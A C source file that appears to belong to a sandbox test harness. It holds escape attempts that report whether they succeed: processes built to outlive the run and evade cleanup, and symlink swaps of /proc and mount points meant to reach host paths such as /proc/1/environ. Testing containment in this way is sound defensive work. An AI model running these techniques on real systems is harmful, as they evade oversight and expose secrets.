/* What changes the root for all that come after, and processes that outlive the RUN. */

#include "hostile.h"

#include <sched.h>
#include <signal.h>
#include <sys/prctl.h>

static void become_orphan(void) {
    char *words[] = {"roadstead-orphan", "orphan", NULL};
    signal(SIGTERM, SIG_IGN);
    signal(SIGHUP, SIG_IGN);
    for (int fd = 0; fd < 3; fd++) close(fd);
    execv("/hostile", words);
    _exit(1);
}

/* The runner looks for them. */
static int outlive(void) {
    for (int way = 0; way < 5; way++) {
        pid_t child = fork();
        if (child != 0) continue;
        if (way > 0) setsid();
        if (way > 1 && fork() != 0) _exit(0);
        if (way > 2 && fork() != 0) _exit(0);
        if (way == 3 && setresuid(4242, 4242, 4242) != 0) _exit(0);
        if (way == 4) prctl(PR_SET_PDEATHSIG, 0, 0, 0, 0);
        become_orphan();
    }
    /* Not a child of this process: its parent takes it. */
    pid_t other = (pid_t)syscall(SYS_clone, CLONE_PARENT | SIGCHLD, 0, 0, 0, 0);
    if (other == 0) become_orphan();
    usleep(200000);
    return BLOCKED;
}

/* Another thing in the place of what is served. */
static int in_place_of_proc(void) {
    rename("/proc", "/proc-before");
    rmdir("/proc");
    if (symlink("/", "/proc") != 0 && symlink("..", "/proc") != 0) return BLOCKED;
    int found = 0;
    for (int i = 0; i < plan.path_count && !found; i++) {
        char path[600];
        snprintf(path, sizeof path, "/proc%s", plan.paths[i]);
        found = try_at(AT_FDCWD, path);
    }
    found = found || try_at(AT_FDCWD, "/proc/1/environ");
    unlink("/proc");
    rename("/proc-before", "/proc");
    return found ? GAINED : BLOCKED;
}

static int in_place_of_mounts(void) {
    static const char *const mounts[] = {"/mnt/bind", "/mnt/cache", "/mnt/tmpfs", "/mnt/read-only", "/dev", "/dev/shm"};
    for (int mount = 0; mount < 6; mount++) {
        char aside[64];
        snprintf(aside, sizeof aside, "%s-before", mounts[mount]);
        if (rename(mounts[mount], aside) != 0 && rmdir(mounts[mount]) != 0) continue;
        if (symlink("/../../../../..", mounts[mount]) != 0) continue;
        for (int i = 0; i < plan.path_count; i++) {
            char path[600];
            snprintf(path, sizeof path, "%s%s", mounts[mount], plan.paths[i]);
            if (try_at(AT_FDCWD, path)) return GAINED;
        }
        unlink(mounts[mount]);
        rename(aside, mounts[mount]);
    }
    return BLOCKED;
}

const struct attempt last_attempts[] = {
    {"replace-mounts", in_place_of_mounts},
    {"replace-proc", in_place_of_proc},
    {"orphans", outlive},
    {0},
};
